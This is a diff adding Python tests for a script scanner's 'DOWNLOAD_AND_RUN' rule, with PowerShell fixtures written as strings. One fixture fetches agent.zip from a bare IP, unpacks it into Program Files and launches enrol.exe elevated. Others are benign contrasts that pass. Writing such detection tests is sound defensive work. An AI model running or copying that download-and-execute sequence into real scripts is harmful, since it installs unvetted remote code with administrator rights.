@@ -78,3 +78,34 @@ def test_python_archive_unpacked_into_a_temporary_folder_and_only_read_stays_qui
     )
     errors = scan_errors(tmp_path, {"scripts/data.py": script})
     assert not any(rule == "DOWNLOAD_AND_RUN" for rule, _, _ in errors)
+
+
+_DOWNLOADED_INTO_A_SYSTEM_FOLDER = (
+    '$zip = Join-Path $env:TEMP "agent.zip"\n'
+    "Invoke-WebRequest -Uri http://203.0.113.9/agent.zip -OutFile $zip\n"
+    'Expand-Archive -Path $zip -DestinationPath "$env:ProgramFiles\\RelayAgent" -Force\n'
+)
+
+
+def test_a_program_under_a_named_folder_of_an_environment_location_is_started(tmp_path: Path) -> None:
+    script = _DOWNLOADED_INTO_A_SYSTEM_FOLDER + (
+        'Start-Process "$env:ProgramFiles\\RelayAgent\\bin\\enrol.exe" -ArgumentList "/quiet" -Verb RunAs\n'
+    )
+    errors = scan_errors(tmp_path, {"scripts/Install-Agent.ps1": script})
+    assert ("DOWNLOAD_AND_RUN", "scripts/Install-Agent.ps1", 4) in errors
+
+
+def test_a_program_in_another_folder_of_that_location_is_not_the_download(tmp_path: Path) -> None:
+    script = _DOWNLOADED_INTO_A_SYSTEM_FOLDER + '& "$env:ProgramFiles\\Vendor\\tool.exe" --version\n'
+    errors = scan_errors(tmp_path, {"scripts/Install-Agent.ps1": script})
+    assert not any(rule == "DOWNLOAD_AND_RUN" for rule, _, _ in errors)
+
+
+def test_unpacked_data_under_an_environment_location_only_read_stays_quiet(tmp_path: Path) -> None:
+    script = (
+        '$zip = Join-Path $env:TEMP "rates.zip"\n'
+        "Invoke-WebRequest -Uri https://data.rates-feed.invalid/rates.zip -OutFile $zip\n"
+        'Expand-Archive $zip "$env:LOCALAPPDATA\\Rates" -Force\n'
+        'Import-Csv "$env:LOCALAPPDATA\\Rates\\rates.csv" | Select-Object -First 5\n'
+    )
+    assert scan_errors(tmp_path, {"scripts/Get-Rates.ps1": script}) == set()
